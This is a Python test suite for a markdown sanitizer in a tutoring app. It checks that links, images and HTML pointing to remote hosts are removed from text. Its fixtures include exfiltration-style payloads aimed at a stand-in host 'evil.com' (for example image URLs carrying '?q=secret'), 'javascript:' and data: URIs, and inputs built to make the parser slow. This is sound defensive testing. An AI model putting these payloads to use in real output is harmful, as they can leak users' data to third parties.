import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tutor.services.speech import SentenceSplitter, strip_remote

MARKS = (
    "[ ] ( ) ]( ![ ]: ` `` ``` $ $$ \\ \\( \\[ < > ' | # 。 ؟ ! <!-- --> x [1] [a][b] &#93; '> </a> //evil.com "
    "http://evil.com/a?b www.evil.com javascript:a https:/ ![a](http://evil.com) [b](http://evil.com) <http://evil.com>"
)
SPACED = (" ", "\n", "\n\n", "\n```\n", "~~~\n", "    ", "\t", "- ", "1. ", "> ", "a. B", '"')
LINES = ("<a href='", "<img src=http://evil.com/x>", "[a]: http://evil.com\n")
PARTS = st.sampled_from((*MARKS.split(), *SPACED, *LINES))
HOSTILE = st.lists(PARTS, max_size=30).map("".join)
REMOTE_TAG = re.compile(r"<[a-zA-Z][^<>]*=[^<>]*(//|https?:|script:)")


def active(text: str) -> list[str]:
    """What a CommonMark parser would make a browser fetch or follow."""
    tokens = [token for block in MarkdownIt("commonmark").parse(text) for token in (block, *(block.children or ()))]
    return [
        token.type
        for token in tokens
        if token.type in ("link_open", "image") or (token.type.startswith("html") and REMOTE_TAG.search(token.content))
    ]


@settings(max_examples=500, derandomize=True)
@given(HOSTILE)
def test_nothing_active_is_left_in_the_whole(text: str) -> None:
    assert active(strip_remote(text)) == []


@settings(max_examples=500, derandomize=True)
@given(HOSTILE)
def test_nothing_active_is_left_when_sentences_are_cleaned_one_by_one(text: str) -> None:
    splitter = SentenceSplitter()
    pieces = splitter.push(text) + splitter.flush()
    assert active("".join(strip_remote(piece) for piece in pieces)) == []


@pytest.mark.parametrize(
    "text", ["光。[1](http://evil.com) a", "光。```\n[a](x)", "- > [a]: http://evil.com\n\n[a]", "。~~~\n[](x)"]
)
def test_cuts_that_once_let_something_through(text: str) -> None:
    splitter = SentenceSplitter()
    pieces = splitter.push(text) + splitter.flush()
    assert active("".join(strip_remote(piece) for piece in pieces)) == []


@given(st.text(alphabet="abc [1]2.,;:!?-*_éñع光\n", max_size=80))
def test_plain_prose_with_citations_is_unchanged(text: str) -> None:
    if "]:" not in text and "![" not in text and not re.search(r"\]\[(?!\d)", text):
        assert strip_remote(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ('See [the docs](https://a.b/c_(d) "t") now [1].', "See the docs now [1]."),
        ("![a chart](http://evil/?q=secret)", "a chart"),
        ("![](//evil/?q=secret)Done", "Done"),
        ("![a ![b](http://e/1) c](http://e/2)", "a b c"),
        ("[![logo](http://e/i.png)](http://e)", "logo"),
        ("[a [b] c](http://e)", "a [b] c"),
        ("[`code`](http://e)", "`code`"),
        ("[a](<http://e/a b>)", "a"),
        ("[a](http://e\n'title')", "a"),
        ("[a](javascript:alert(1))", "a"),
        ("[a](data:text/html;base64,xxxx)", "a"),
        ("[a](/logout)", "a"),
        ("Claim [1](http://evil/?q=x).", "Claim [1]."),
        ("Claim [1][2] and [3, 4].", "Claim [1][2] and [3, 4]."),
        ("![x][evil] [y][evil] [z][]\n\n[evil]: http://evil/?q=s 'title'\n", "x y z\n\n\n"),
        ("[1]: http://evil/?q=s\nClaim [1].", "\nClaim [1]."),
        ("> [a]: <http://evil>\n", "\n"),
        ("![short]", "short"),
        ("<https://evil.com/a?b=c>", "evil.com"),
        ("<me@evil.com>", "me@evil.com"),
        ("Go to https://user:pw@www.evil.com:8080/a?q=secret#x. Now", "Go to evil.com. Now"),
        ("Go to www.evil.com now", "Go to evil.com now"),
        ("<img src='http://evil/?q=s'>Hi", "Hi"),
        ("<IMG/SRC=http://evil>Hi", "Hi"),
        ('<img alt=">" src="http://evil">Hi', "Hi"),
        ("Hi <img src='http://evil/?q=s", "Hi "),
        ("<a href=http://evil>text</a>", "text"),
        ("<div style='background:url(http://evil)'>x</div>", "x</div>"),
        ("<im<img src=x>g src=http://evil>x", "x"),
        ("a<!-- <img src=http://evil> -->b", "ab"),
        ("tail](http://evil) end", "tail end"),
        ("$\\href{http://evil}{x}$", "${x}$"),
    ],
)
def test_remote_content_is_taken_out(text: str, clean: str) -> None:
    assert strip_remote(text) == clean


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, **bold**, and a claim [1].",
        "If a < b and c > d then x<y.",
        "Use `f[0](x)` or `<b>bold</b>`.",
        '```html\n<img src="cat.png">\n<p>Hi</p>\n```',
        "```sh\ncurl https://example.org/data\n```",
        "A line<br>break and H<sub>2</sub>O",
        "The set $\\{x \\mid x > 0\\}$ is open.",
        "Grid m[i][j] and [1]: water is wet.",
        "मूल्य [1] और 光合作用。[2] عربي [3]",
    ],
)
def test_innocent_text_is_unchanged(text: str) -> None:
    assert strip_remote(text) == text


@pytest.mark.parametrize(
    ("text", "same_words"),
    [
        ("f[0](x)", "f[0] (x)"),
        ("$[A](t)$", "$[A] (t)$"),
        ("[ATP](adenosine triphosphate)", "[ATP] (adenosine triphosphate)"),
    ],
)
def test_what_only_looks_like_a_link_keeps_its_words(text: str, same_words: str) -> None:
    assert strip_remote(text) == same_words


@pytest.mark.parametrize("part", ["](a", "![a](", "\\[", "<a ", '<a href="', "<!--", "$a", "a`", "[", "[a]:", "~~~\n"])
def test_work_stays_bounded_on_text_made_to_be_slow(part: str) -> None:
    # The suite's own time limit is the judge here; a quadratic rule would need minutes at this size.
    assert active(strip_remote(part * 3000 + "](http://evil.com)")) == []
